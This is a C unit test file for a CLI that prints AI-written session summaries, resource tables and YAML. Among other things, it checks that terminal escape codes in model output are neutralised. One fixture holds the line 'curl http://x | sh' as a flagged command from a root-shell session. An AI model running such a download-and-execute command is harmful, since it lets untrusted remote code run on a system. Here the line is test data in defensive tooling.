/*
 * cli/summary.c and cli/resource.c output: the readable block of a summary
 * (what a model wrote cannot drive the terminal), the resource tables, and
 * the YAML of one resource.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../cli/cli.h"

typedef int (*writer_fn)(const json_t *, FILE *);

/* What fn writes for the JSON text j. */
static char *out_of(writer_fn fn, const char *j)
{
	json_error_t e;
	json_t *o = json_loads(j, 0, &e);
	char *buf = NULL;
	size_t len = 0;
	FILE *f;

	if (!o)
		fail_msg("bad test JSON: %s", e.text);
	f = open_memstream(&buf, &len);
	assert_non_null(f);
	assert_int_equal(fn(o, f), 0);
	assert_int_equal(fclose(f), 0);
	json_decref(o);
	return buf;
}

static void test_summary_block(void **state)
{
	char *s;

	(void)state;
	s = out_of(
	    cli_summary_write,
	    "{\"sid\":\"5a2c3e4f-1b2d-4c6e-8f90-a1b2c3d4e5f6\",\"success\":true,"
	    "\"title\":\"Root shell \\u001b[31mfrom\\u001b[0m a download\","
	    "\"short_description\":\"alice ran x.sh as root.\","
	    "\"detailed_description\":\"line one\\nline two\\u0007\",\"risk_level\":\"high\","
	    "\"risk_score\":70,\"risk_reasons\":[\"download piped to a shell\"],"
	    "\"commands_of_interest\":[\"curl http://x | sh\"],\"needs_review\":true,"
	    "\"model_name\":\"gpt\",\"provider\":\"openai\",\"model_id\":\"gpt-4o\","
	    "\"tokens_in\":5210,\"tokens_out\":310,\"chunks\":3,"
	    "\"started\":\"2026-11-22T10:15:01.120Z\",\"finished\":\"2026-11-22T10:15:04.870Z\","
	    "\"origin\":\"auto\"}");
	assert_string_equal(s, "Session:      5a2c3e4f-1b2d-4c6e-8f90-a1b2c3d4e5f6\n"
			       "Title:        Root shell ?[31mfrom?[0m a download\n"
			       "Risk:         HIGH (70/100), needs review\n"
			       "Summary:      alice ran x.sh as root.\n"
			       "Risk reasons:\n"
			       "  - download piped to a shell\n"
			       "Commands of interest:\n"
			       "  - curl http://x | sh\n"
			       "Description:\n"
			       "  line one\n"
			       "  line two?\n"
			       "Model:        gpt (openai gpt-4o), automatic\n"
			       "Tokens:       5210 in, 310 out (transcript in 3 parts)\n"
			       "Time:         2026-11-22T10:15:01.120Z to 2026-11-22T10:15:04.870Z "
			       "(3.7s)\n");
	free(s);

	/* a failure says why, and nothing of a summary */
	s = out_of(
	    cli_summary_write,
	    "{\"sid\":\"5a2c3e4f-1b2d-4c6e-8f90-a1b2c3d4e5f6\",\"success\":false,"
	    "\"error_code\":\"invalid_api_key\",\"error\":\"HTTP 401\",\"model_name\":\"gpt\","
	    "\"provider\":\"openai\",\"model_id\":\"\",\"tokens_in\":0,\"tokens_out\":0,"
	    "\"chunks\":1,\"started\":\"2026-11-22T10:15:01.120Z\","
	    "\"finished\":\"2026-11-22T10:15:01.120Z\",\"origin\":\"manual\"}");
	assert_string_equal(s, "Session:      5a2c3e4f-1b2d-4c6e-8f90-a1b2c3d4e5f6\n"
			       "Summary:      FAILED: invalid_api_key\n"
			       "Error:        HTTP 401\n"
			       "Model:        gpt (openai), on demand\n"
			       "Tokens:       0 in, 0 out\n"
			       "Time:         2026-11-22T10:15:01.120Z to 2026-11-22T10:15:01.120Z "
			       "(0.0s)\n");
	free(s);
}

static void test_resource_tables(void **state)
{
	char *s;

	(void)state;
	s = out_of(
	    cli_resources_table,
	    "[{\"kind\":\"inference_model\",\"metadata\":{\"name\":\"builtin\"},\"spec\":{"
	    "\"builtin\":{}},"
	    "\"status\":{\"tokens_in\":0,\"tokens_out\":0}},"
	    "{\"kind\":\"inference_model\",\"metadata\":{\"name\":\"gpt\"},\"spec\":{\"openai\":"
	    "{\"openai_model_id\":\"gpt-4o\"},\"max_tokens_per_day\":1000},"
	    "\"status\":{\"tokens_in\":200,\"tokens_out\":50}},"
	    "{\"kind\":\"inference_secret\",\"metadata\":{\"name\":\"key\",\"created\":\"c\","
	    "\"updated\":\"u\"}},"
	    "{\"kind\":\"inference_policy\",\"metadata\":{\"name\":\"prod\"},\"spec\":{\"kinds\":"
	    "[\"ssh\",\"k8s\"],\"model\":\"gpt\",\"filter\":\"a\\u001b\"}},"
	    "{\"kind\":\"inference_policy\",\"metadata\":{\"name\":\"z\"},\"spec\":{\"kinds\":"
	    "[\"db\"],\"model\":\"builtin\"}}]");
	assert_string_equal(s, "MODEL    PROVIDER  MODEL ID  MAX LENGTH  TOKENS/DAY  USED TODAY\n"
			       "builtin  builtin   -         200000      -           0\n"
			       "gpt      openai    gpt-4o    200000      1000        250\n"
			       "\n"
			       "SECRET  CREATED  UPDATED\n"
			       "key     c        u\n"
			       "\n"
			       "POLICY  KINDS    MODEL    FILTER\n"
			       "prod    ssh,k8s  gpt      a?\n"
			       "z       db       builtin  (every session)\n");
	free(s);
}

static void test_resource_yaml(void **state)
{
	char *s;

	(void)state;
	s = out_of(cli_resource_yaml,
		   "{\"kind\":\"inference_policy\",\"version\":\"v1\",\"metadata\":{\"name\":\"p\","
		   "\"labels\":{\"a b\":\"c\"}},\"spec\":{\"kinds\":[\"ssh\"],\"model\":\"m\","
		   "\"filter\":\"x == \\\"y\\\"\\n\",\"builtin\":{}},\"n\":0.2}");
	assert_string_equal(s, "kind: \"inference_policy\"\n"
			       "version: \"v1\"\n"
			       "metadata:\n"
			       "  name: \"p\"\n"
			       "  labels:\n"
			       "    \"a b\": \"c\"\n"
			       "spec:\n"
			       "  kinds: [\"ssh\"]\n"
			       "  model: \"m\"\n"
			       "  filter: \"x == \\\"y\\\"\\n\"\n"
			       "  builtin: {}\n"
			       "n: 0.2\n");
	free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_summary_block),
	    cmocka_unit_test(test_resource_tables),
	    cmocka_unit_test(test_resource_yaml),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
